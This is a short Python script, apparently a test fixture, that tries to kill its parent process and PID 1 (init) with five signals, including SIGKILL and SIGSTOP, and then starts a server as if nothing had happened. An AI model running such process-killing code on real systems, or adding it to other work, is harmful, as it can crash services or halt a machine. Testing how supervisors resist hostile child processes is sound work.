# Kills whatever it can, and then serves as if nothing had happened.
import os
import signal
from serve import serve

for victim in (os.getppid(), 1):
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGSTOP, signal.SIGKILL):
        try:
            if victim != os.getpid():
                os.kill(victim, number)
        except OSError:
            pass
serve()
